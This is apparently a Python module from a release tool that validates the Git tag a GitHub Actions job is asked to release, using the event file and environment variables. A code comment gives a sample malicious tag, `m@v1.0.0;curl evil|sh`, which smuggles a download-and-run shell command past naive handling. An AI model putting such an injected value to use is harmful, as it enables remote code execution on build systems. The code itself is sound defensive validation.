"""GitHub Actions: the tag that a job is to carry out, from its variables and its event file.

https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows
"""

import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

import msgspec

from mltool.errors import UserError

TAGS: Final = "refs/tags/"
NOWHERE: Final = "0" * 40
# Git allows `m@v1.0.0;curl evil|sh` as a tag; nothing like it gets past this line.
_TAG: Final = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.+=/-]*[@#][A-Za-z0-9_.+=/!#-]+")


@dataclass(frozen=True, kw_only=True)
class Asked:
    """A tag by its name, and the object that the event said it is (empty: the event did not say)."""

    tag: str
    object: str = ""


@dataclass(frozen=True, kw_only=True)
class _Inputs:
    tag: str = ""


@dataclass(frozen=True, kw_only=True)
class _Event:
    after: str = ""
    deleted: bool = False
    inputs: _Inputs | None = field(default_factory=_Inputs)


def load(environ: Mapping[str, str]) -> Asked:
    """Return the tag that this job is to carry out; raises UserError as `detect` does, and without an event file."""
    path = environ.get("GITHUB_EVENT_PATH", "")
    try:
        return detect(environ, Path(path).read_bytes())
    except OSError as error:
        raise UserError(
            f"The event file {path or '(GITHUB_EVENT_PATH is not set)'} cannot be read: {error.strerror}.",
            "This command is for a job of GitHub Actions.",
        ) from None


def detect(environ: Mapping[str, str], event: bytes) -> Asked:
    """Return the tag that was pushed, or that the run was started for by hand.

    Raises UserError where there is none, it is gone, or its name is not one that the ledger gives.
    """
    name, ref = environ.get("GITHUB_EVENT_NAME", ""), environ.get("GITHUB_REF", "")
    parsed = _parse(event)
    given = parsed.inputs.tag if name == "workflow_dispatch" and parsed.inputs else ""
    if name not in ("push", "workflow_dispatch") or not (given or ref.startswith(TAGS)):
        raise UserError(
            f"The event `{name}` on {ref[:200] or 'no ref'} names no tag.",
            "Push a tag that `mltool register` made, or start the workflow with its input `tag`.",
        )
    if parsed.deleted or parsed.after == NOWHERE:
        raise UserError(f"The push deleted {ref[:200]}: there is nothing to release.")
    tag = given or ref.removeprefix(TAGS)
    if len(tag) > 200 or not _TAG.fullmatch(tag):
        raise UserError(f"{tag[:80]!r} is no tag of the ledger.", "It has `delay@v1.3.0` or `delay#prod#4`.")
    return Asked(tag=tag, object="" if given or name != "push" else parsed.after)


def _parse(event: bytes) -> _Event:
    try:
        return msgspec.json.decode(event, type=_Event)
    except (msgspec.DecodeError, UnicodeDecodeError) as error:
        raise UserError(f"The event file cannot be understood: {error}.", "Check GITHUB_EVENT_PATH.") from None
